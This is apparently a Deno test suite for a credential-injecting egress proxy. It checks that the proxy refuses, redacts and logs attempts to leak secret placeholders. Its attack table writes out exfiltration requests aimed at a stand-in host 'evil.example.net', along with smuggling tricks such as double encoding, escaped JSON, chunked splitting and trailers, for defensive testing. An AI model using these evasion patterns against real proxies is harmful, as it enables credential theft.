import assert from "node:assert/strict";
import { endpointOf, httpRuleOf, policyOf, ruleOf } from "../../policy-wasm/fixtures.ts";
import type { Endpoint, Rule } from "../../policy-wasm/policy.ts";
import { CredentialSet } from "../../drivers/supervisor/credentials/credential_set.ts";
import {
  AWS_SECRET,
  HANDLE,
  liveCredentials,
  SECRET,
} from "../../drivers/supervisor/credentials/fixture.ts";
import type { AuditEvent } from "../../drivers/supervisor/events/audit_event.ts";
import type { MemoryStream } from "../../drivers/supervisor/egress/http1/memory_stream.ts";
import {
  type Answer,
  clientHello,
  parseAnswer,
  type Pipeline,
  readHead,
  readText,
  send,
  withPipeline,
} from "../../drivers/supervisor/egress/pipeline_fixture.ts";

const API = "api.example.com";
const EVIL = "evil.example.net";
const BUCKET = "b.s3.eu-west-1.amazonaws.com";
const TOKEN = "openshell:resolve:env:TOKEN";
const ANY = { allow: [httpRuleOf({ method: "*" })] };

/** The API fills bodies only where `filled` says so; the other host is allowed too. */
function rulesFor(change: Partial<Endpoint> = {}): readonly Rule[] {
  const ports = [80, 443];
  const signed = { credentialSigning: "sigv4", signingService: "s3" } as const;
  return [
    ruleOf({
      endpoints: [
        endpointOf({ host: API, ports, ...ANY, ...change }),
        endpointOf({ host: EVIL, ports, ...ANY }),
        endpointOf({ host: "*.s3.eu-west-1.amazonaws.com", ...ANY, ...signed }),
      ],
    }),
  ];
}

function request(
  headers: string,
  { method = "GET", path = "/", host = API, body = "" } = {},
): string {
  const framing = method === "POST"
    ? `Content-Length: ${new TextEncoder().encode(body).length}\r\n`
    : "";
  return `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\n${framing}${headers}\r\n${body}`;
}

interface Outcome {
  readonly answer: Answer;
  /** All that the server got. */
  readonly upstream: string;
  readonly events: readonly AuditEvent[];
}

async function answerWith(server: MemoryStream, response: string | null): Promise<void> {
  if (response !== null) await send(server, response);
}

/** Sends pieces through a tunnel to a host. A server answers once, if anything comes. */
async function tunnel(
  pipeline: Pipeline,
  host: string,
  pieces: readonly string[],
  response: string | null = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
): Promise<Outcome> {
  const { client, server } = await pipeline.connect(`${host}:443`);
  await send(client, clientHello(host));
  const head = readHead(server);
  const sending = (async () => {
    for (const piece of pieces) await send(client, piece).catch(() => {});
  })();
  const begun = await head;
  const rest = begun.endsWith("\r\n\r\n")
    ? answerWith(server, response).then(() => readText(server)).catch(() => "")
    : Promise.resolve("");
  const answer = parseAnswer(await readText(client));
  await sending;
  client.close();
  return { answer, upstream: begun + await rest, events: pipeline.events };
}

interface Attack {
  readonly id: string;
  readonly host?: string;
  readonly pieces: readonly string[];
  readonly want: string;
  readonly hasFinding?: boolean;
  readonly change?: Partial<Endpoint>;
  /** A part of the request may have gone, as long as the placeholder has not. */
  readonly isBegun?: boolean;
}

const ENCODED = "openshell%3Aresolve%3Aenv%3ATOKEN";
const POST = { method: "POST" };
const FILLED = { requestBodyCredentialRewrite: true };
const JSON_TYPE = "Content-Type: application/json\r\n";
const FORM_TYPE = "Content-Type: application/x-www-form-urlencoded\r\n";

function chunked(type: string, chunks: readonly string[], end = "0\r\n\r\n"): readonly string[] {
  const head = `POST / HTTP/1.1\r\nHost: ${API}\r\nTransfer-Encoding: chunked\r\n${type}\r\n`;
  return [head, ...chunks.map((text) => `${text.length.toString(16)}\r\n${text}\r\n`), end];
}

const ATTACKS: readonly Attack[] = [
  {
    id: "placeholder-at-another-allowed-host",
    host: EVIL,
    pieces: [request(`Authorization: Bearer ${TOKEN}\r\n`, { host: EVIL })],
    want: "credential_endpoint_mismatch",
  },
  {
    id: "placeholder-in-a-path-of-another-host",
    host: EVIL,
    pieces: [request("", { host: EVIL, path: `/${TOKEN}` })],
    want: "credential_endpoint_mismatch",
  },
  {
    id: "placeholder-in-a-query-of-another-host",
    host: EVIL,
    pieces: [request("", { host: EVIL, path: `/?a=${ENCODED}` })],
    want: "credential_endpoint_mismatch",
  },
  {
    id: "placeholder-in-a-query-name",
    pieces: [request("", { path: `/?${TOKEN}=1` })],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-in-a-header-name",
    pieces: [request("X-OPENSHELL-RESOLVE-ENV-TOKEN: 1\r\n")],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-in-another-case",
    pieces: [request("X-Api-Key: OPENSHELL:Resolve:env:TOKEN\r\n")],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-encoded-twice",
    pieces: [request("", { path: `/?a=${ENCODED.replaceAll("%", "%25")}` })],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-in-basic-for-another-host",
    host: EVIL,
    pieces: [request(`Authorization: Basic ${btoa(`x:${TOKEN}`)}\r\n`, { host: EVIL })],
    want: "credential_endpoint_mismatch",
  },
  {
    id: "placeholder-in-a-json-body",
    pieces: [request(JSON_TYPE, { ...POST, body: `{"a":"${TOKEN}"}` })],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-in-a-binary-body",
    pieces: [request("Content-Type: image/png\r\n", { ...POST, body: `\x89PNG\0\x01${TOKEN}` })],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-in-chunks-of-a-letter-each",
    pieces: chunked(JSON_TYPE, [...`{"a":"${TOKEN}"}`]),
    want: "credential_misplaced",
    isBegun: true,
  },
  {
    id: "placeholder-split-over-writes",
    pieces: [
      request("", { ...POST, body: `${"x".repeat(999)}${TOKEN}` }).slice(0, -12),
      TOKEN.slice(-12),
    ],
    want: "credential_misplaced",
    isBegun: true,
  },
  {
    id: "placeholder-encoded-in-a-form",
    pieces: [request(FORM_TYPE, { ...POST, body: `a=${ENCODED}` })],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-escaped-in-json",
    pieces: [
      request(JSON_TYPE, { ...POST, body: `{"a":"${TOKEN.replaceAll(":", "\\u003a")}"}` }),
    ],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-of-another-host-in-a-filled-body",
    change: FILLED,
    pieces: [
      request(JSON_TYPE, { ...POST, body: '{"a":"openshell:resolve:env:AWS_SESSION_TOKEN"}' }),
    ],
    want: "credential_endpoint_mismatch",
  },
  {
    id: "placeholder-as-a-key-of-json",
    change: FILLED,
    pieces: [request(JSON_TYPE, { ...POST, body: `{"${TOKEN}"${" ".repeat(200)}:1}` })],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-as-a-name-in-a-form",
    change: FILLED,
    pieces: [request(FORM_TYPE, { ...POST, body: `${ENCODED}=1` })],
    want: "credential_misplaced",
  },
  {
    id: "trailers-behind-a-filled-body",
    change: FILLED,
    pieces: chunked(JSON_TYPE, ["{}"], "0\r\nX-Api-Key: theirs\r\n\r\n"),
    want: "credential_misplaced",
  },
  {
    id: "placeholder-in-json-that-is-none",
    change: FILLED,
    pieces: [request(JSON_TYPE, { ...POST, body: `{'a':'${TOKEN}'}` })],
    want: "credential_misplaced",
  },
  {
    id: "a-body-of-placeholders-without-end",
    change: FILLED,
    pieces: chunked(JSON_TYPE, Array.from({ length: 80 }, () => "x".repeat(4096))),
    want: "request_too_large",
    hasFinding: false,
  },
  {
    id: "foreign-key-to-an-allowed-host",
    pieces: [request("X-Api-Key: sk-attacker\r\n")],
    want: "foreign_credential",
  },
  {
    id: "foreign-key-with-an-underscore",
    pieces: [request("X_Api_Key: sk-attacker\r\n")],
    want: "foreign_credential",
  },
  {
    id: "foreign-key-beside-ours",
    pieces: [request(`Authorization: Bearer ${TOKEN}\r\nAuthorization: Bearer theirs\r\n`)],
    want: "foreign_credential",
  },
  {
    id: "foreign-user-beside-our-password",
    pieces: [request(`Authorization: Basic ${btoa(`ghp_attacker:${TOKEN}`)}\r\n`)],
    want: "foreign_credential",
  },
  {
    id: "foreign-signature-in-the-url",
    host: BUCKET,
    pieces: [request("", { host: BUCKET, path: "/o?X-Amz-Credential=AKIA&X-Amz-Signature=0a" })],
    want: "foreign_credential",
  },
  {
    id: "an-upload-in-chunks-signed-by-another",
    host: BUCKET,
    pieces: [
      request("X-Amz-Content-Sha256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD\r\n", {
        ...POST,
        host: BUCKET,
        body: "x",
      }),
    ],
    want: "credential_misplaced",
  },
  {
    id: "keys-of-aws-in-the-clear",
    pieces: [request("X-Api-Key: openshell:resolve:env:AWS_SECRET_ACCESS_KEY\r\n")],
    want: "credential_endpoint_mismatch",
  },
  {
    id: "a-handle-of-a-former-epoch",
    pieces: [request(`X-Api-Key: openshell:resolve:env:s${"ff".repeat(32)}_ROTATING\r\n`)],
    want: "credential_unknown",
    hasFinding: false,
  },
  {
    id: "host-header-of-the-credentials-place",
    host: EVIL,
    pieces: [request(`X-Api-Key: ${TOKEN}\r\n`, { host: API })],
    want: "request_authority_mismatch",
    hasFinding: false,
  },
  {
    id: "placeholder-in-the-host-header",
    pieces: [request("", { host: TOKEN })],
    want: "request_authority_mismatch",
    hasFinding: false,
  },
];

function secretFree(value: unknown): void {
  const text = JSON.stringify(value);
  assert.ok(!text.includes(SECRET) && !text.includes(AWS_SECRET), text);
}

Deno.test.each([...ATTACKS])("the proxy withstands $id", (attack) =>
  withPipeline(
    { rules: rulesFor(attack.change), credentials: liveCredentials() },
    async (pipeline) => {
      const { host = API, pieces, want, hasFinding = true, isBegun = false } = attack;
      const { answer, upstream, events } = await tunnel(pipeline, host, pieces, null);
      assert.equal(answer.status, want === "request_too_large" ? 413 : 403, upstream);
      assert.match(answer.headers, new RegExp(`X-OpenShell-Reason: ${want}`));
      assert.doesNotMatch(upstream, /openshell.{0,8}resolve.{0,8}env/i);
      assert.equal(isBegun || upstream === "", true, upstream);
      const reasons = events.flatMap((event) =>
        event.kind === "request" && event.outcome.kind === "denied" ? [event.outcome.reason] : []
      );
      assert.deepEqual(reasons, [want]);
      const findings = events.filter(({ kind }) => kind === "finding");
      assert.equal(findings.length, hasFinding ? 1 : 0);
      secretFree([answer, events, upstream]);
    },
  ));

Deno.test("the proxy refuses a placeholder in the name of a host, and looks nothing up", () =>
  withPipeline(
    {
      rules: [ruleOf({ endpoints: [endpointOf({ host: "*.example.net", ...ANY })] })],
      credentials: liveCredentials(),
    },
    async (pipeline) => {
      const host = "sk-OPENSHELL-RESOLVE-ENV-TOKEN.example.net";
      const connect = await pipeline.ask(`CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
      const plain = await pipeline.ask(`GET http://${host}/ HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
      assert.deepEqual([connect.status, plain.status, pipeline.resolved], [403, 403, []]);
      assert.equal(pipeline.events.filter(({ kind }) => kind === "finding").length, 2);
    },
  ));

Deno.test.each([
  { name: "a header", text: `X-Api-Key: ${TOKEN}\r\n`, want: `X-Api-Key: ${SECRET}` },
  {
    name: "a basic one",
    text: `Authorization: Basic ${btoa(`x-access-token:${TOKEN}`)}\r\n`,
    want: btoa(`x-access-token:${SECRET}`),
  },
  { name: "nothing", text: "Cookie: a=b\r\n", want: "Host: api.example.com\r\n\r\n" },
])(
  "the proxy fills $name for its own host, in a tunnel and in plain",
  ({ text, want }) =>
    withPipeline({ rules: rulesFor(), credentials: liveCredentials() }, async (pipeline) => {
      const last = request(`${text}Connection: close\r\n`);
      const { answer, upstream, events } = await tunnel(pipeline, API, [last]);
      assert.equal(answer.status, 200);
      assert.ok(upstream.includes(want), upstream);
      const client = pipeline.open();
      const dialled = pipeline.nextServer();
      await send(client, request(text, { path: `http://${API}/` }));
      const server = await dialled;
      assert.ok((await readHead(server)).includes(want.split("\r\n")[0]!));
      await send(server, "HTTP/1.1 204 No Content\r\n\r\n");
      assert.equal(parseAnswer(await readText(client)).status, 204);
      client.close();
      secretFree(events);
    }),
);

Deno.test("the proxy fills a body whose endpoint asks for it, and makes its length anew", () =>
  withPipeline({ rules: rulesFor(FILLED), credentials: liveCredentials() }, async (pipeline) => {
    const { client, server } = await pipeline.connect(`${API}:443`);
    await send(client, clientHello(API));
    const body = `{"n": 1.0, "a":"${TOKEN}", "b":"x${TOKEN}\\n"}`;
    await send(
      client,
      request(`${JSON_TYPE}Expect: 100-continue\r\n`, { ...POST, body: "" })
        .replace("Content-Length: 0", `Content-Length: ${body.length}`),
    );
    assert.match(await readHead(client), /^HTTP\/1\.1 100 /);
    await send(client, body);
    const head = await readHead(server);
    const want = `{"n": 1.0, "a":"${SECRET}", "b":"x${SECRET}\\n"}`;
    assert.match(head, new RegExp(`Content-Length: ${want.length}\r\n`));
    assert.doesNotMatch(head, /Expect/);
    const bytes = new Uint8Array(want.length);
    assert.equal(await server.read(bytes), want.length);
    assert.equal(new TextDecoder().decode(bytes), want);
    client.close();
  }));

Deno.test("the proxy signs for AWS in the place of what the program signed", () =>
  withPipeline({ rules: rulesFor(), credentials: liveCredentials() }, async (pipeline) => {
    const theirs = "Authorization: AWS4-HMAC-SHA256 Credential=openshell:resolve:env:" +
      "AWS_ACCESS_KEY_ID/20260101/x/s3/aws4_request, SignedHeaders=host, Signature=00\r\n" +
      "Connection: close\r\nX-Amz-Date: 20260101T000000Z\r\nX-Amz-Security-Token: theirs\r\n";
    const sent = request(theirs, { ...POST, host: BUCKET, path: "/o%3Ap", body: "hello" });
    const { answer, upstream, events } = await tunnel(pipeline, BUCKET, [sent]);
    assert.equal(answer.status, 200);
    assert.match(upstream, /^POST \/o%3Ap HTTP/);
    assert.match(upstream, /Credential=AKIDLIVE\/[0-9]{8}\/eu-west-1\/s3\/aws4_request, /);
    assert.match(upstream, /X-Amz-Security-Token: aws-session-token\r\n/);
    assert.match(
      upstream,
      /X-Amz-Content-Sha256: 2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e/,
    );
    assert.doesNotMatch(upstream, /20260101|theirs/);
    secretFree([events, upstream]);
  }));

Deno.test.each([
  { name: "with a length", framing: "Content-Length: §", body: (text: string) => text },
  {
    name: "in chunks",
    framing: "Transfer-Encoding: chunked",
    body: (text: string) => [...text].map((letter) => `1\r\n${letter}\r\n`).join("") + "0\r\n\r\n",
  },
  { name: "up to the close", framing: "Connection: close", body: (text: string) => text },
])(
  "the proxy covers a secret that a server sends back $name",
  ({ framing, body }) =>
    withPipeline({ rules: rulesFor(), credentials: liveCredentials() }, async (pipeline) => {
      const echoed = `you sent ${SECRET}${SECRET}!`;
      const response = `HTTP/1.1 200 ${SECRET}\r\nX-Echo: ${SECRET}\r\nConnection: close\r\n` +
        `${framing.replace("§", String(echoed.length))}\r\n\r\n${body(echoed)}`;
      const { client, server } = await pipeline.connect(`${API}:443`);
      await send(client, clientHello(API));
      await send(client, request(`X-Api-Key: ${TOKEN}\r\nConnection: close\r\n`));
      await readHead(server);
      const answering = send(server, response).then(() => server.close());
      const text = await readText(client);
      await answering;
      client.close();
      assert.match(text, /X-Echo: \[CREDENTIAL\]/);
      secretFree([text, pipeline.events]);
      const findings = pipeline.events.filter(({ kind }) => kind === "finding");
      assert.equal(findings.length, 1);
    }),
);

/** One tunnel that stays open, and a request on it whose head the server gets. */
async function ask(
  pipeline: Pipeline,
  placeholder: string,
  stays: Awaited<ReturnType<typeof pipeline.connect>>,
) {
  const { client, server } = stays;
  await send(client, request(`X-Api-Key: ${placeholder}\r\n`));
  const head = await readHead(server);
  if (!head.endsWith("\r\n\r\n")) return { head, status: (await readHead(client)).split(" ")[1] };
  await send(server, "HTTP/1.1 204 No Content\r\n\r\n");
  return { head, status: (await readHead(client)).split(" ")[1] };
}

const BY_HANDLE = `openshell:resolve:env:${HANDLE}_ROTATING`;
Deno.test.each([
  {
    name: "a rotated value",
    placeholder: BY_HANDLE,
    later: liveCredentials({ token: "value-of-tomorrow" }),
    want: "204",
  },
  {
    name: "another epoch",
    placeholder: BY_HANDLE,
    later: liveCredentials({ handle: `s${"0b".repeat(32)}` }),
    want: "403",
  },
  { name: "a revoked one", placeholder: TOKEN, later: CredentialSet.NONE, want: "403" },
  {
    name: "an expired one",
    placeholder: TOKEN,
    later: liveCredentials({ expiresAtMs: 1 }),
    want: "403",
  },
])(
  "the proxy goes by $name on a connection that is open",
  ({ placeholder, later, want }) =>
    withPipeline({ rules: rulesFor(), credentials: liveCredentials() }, async (pipeline) => {
      const stays = await pipeline.connect(`${API}:443`);
      await send(stays.client, clientHello(API));
      const first = await ask(pipeline, placeholder, stays);
      assert.deepEqual([first.status, first.head.includes(SECRET)], ["204", true]);
      pipeline.load(policyOf(...rulesFor()), later);
      const second = await ask(pipeline, placeholder, stays);
      assert.deepEqual([second.status, second.head.includes(SECRET)], [want, false]);
      assert.equal(second.head.includes("value-of-tomorrow"), want === "204");
      stays.client.close();
    }),
);

Deno.test("the proxy takes no value that was revoked while the server was dialled", () => {
  const onDial = (pipeline: Pipeline) => {
    pipeline.load(policyOf(...rulesFor()), CredentialSet.NONE);
    return true;
  };
  return withPipeline(
    { rules: rulesFor(), credentials: liveCredentials(), onDial },
    async (pipeline) => {
      const text = request(`X-Api-Key: ${TOKEN}\r\n`, { path: `http://${API}/` });
      const answer = await pipeline.ask(text);
      assert.equal(answer.status, 403);
      assert.equal(await readText(pipeline.servers[0]!), "");
    },
  );
});

Deno.test("a placeholder in a request behind another is refused by itself", () =>
  withPipeline({ rules: rulesFor(), credentials: liveCredentials() }, async (pipeline) => {
    const { client, server } = await pipeline.connect(`${EVIL}:443`);
    await send(client, clientHello(EVIL));
    const body = request(`X-Api-Key: ${TOKEN}\r\n`, { host: EVIL });
    await send(client, request("", { host: EVIL }) + body);
    assert.match(await readHead(server), /^GET \/ /);
    await send(server, "HTTP/1.1 204 No Content\r\n\r\n");
    assert.match(await readHead(client), /^HTTP\/1\.1 204 /);
    assert.match(await readHead(client), /credential_endpoint_mismatch/);
    assert.equal(await readText(server), "");
    client.close();
  }));
